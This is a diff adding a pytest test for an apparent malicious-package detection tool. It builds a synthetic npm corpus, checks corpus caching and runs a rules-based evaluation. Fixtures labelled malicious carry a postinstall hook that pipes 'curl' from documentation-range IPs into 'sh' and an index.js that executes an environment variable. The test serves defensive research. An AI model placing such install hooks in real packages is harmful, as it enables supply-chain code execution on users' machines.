@@ -1,0 +1,64 @@
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from corpus_helpers import npm_tgz
+
+from malseq._cli import main
+
+
+def test_build_then_eval(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    data = tmp_path / "data"
+    data.mkdir()
+    lines = ["path\tlabel\tecosystem\tstratum"]
+    for i in range(30):
+        if i % 2:
+            body = npm_tgz(
+                f"m{i}",
+                "1.0.0",
+                {"postinstall": f"curl http://198.51.100.{i}/x | sh"},
+                {"index.js": f"require('child_process').exec(process.env.T{i})".encode()},
+            )
+            lines.append(f"m{i}.tgz\tmalicious\tnpm\tmalicious")
+        else:
+            body = npm_tgz(f"b{i}", "1.0.0", files={"index.js": f"module.exports = (a) => a + {i} * {i};\n".encode()})
+            lines.append(f"b{i}.tgz\tbenign\tnpm\t{'popular' if i % 4 else 'long-tail'}")
+        (data / lines[-1].split("\t")[0]).write_bytes(body)
+    (data / "labels.tsv").write_text("\n".join(lines) + "\n")
+    wd = tmp_path / "work"
+    rc = main(
+        [
+            "corpus",
+            "build",
+            "--workdir",
+            str(wd),
+            "--no-default-sources",
+            "--folder",
+            str(data),
+            "--no-download",
+            "--jobs",
+            "1",
+            "--timeout",
+            "20",
+        ]
+    )
+    assert rc == 0
+    report = json.loads((wd / "build-report.json").read_text())
+    assert report["cache_rows"] == 30 and report["split"] == "written"
+    assert set(report["seconds"]) >= {"load", "analyse", "group_and_split", "total"}
+    assert "corpus build: load" in capsys.readouterr().out
+    # a second build reuses the split and the cache
+    assert (
+        main(["corpus", "build", "--workdir", str(wd), "--no-default-sources", "--folder", str(data), "--no-download"])
+        == 0
+    )
+    report = json.loads((wd / "build-report.json").read_text())
+    assert report["split"] == "reused" and report["analyse"]["cached"] == 30
+    assert main(["eval", "--workdir", str(wd), "--models", "rules", "--out", str(tmp_path / "rep")]) == 0
+    out = capsys.readouterr().out
+    assert "| rules | npm |" in out
+    doc = json.loads((tmp_path / "rep" / "metrics.json").read_text())
+    assert doc["models"]["rules"]["by_ecosystem"]["npm"]["n"] > 0
+    assert main(["corpus", "stats", "--workdir", str(wd)]) == 0
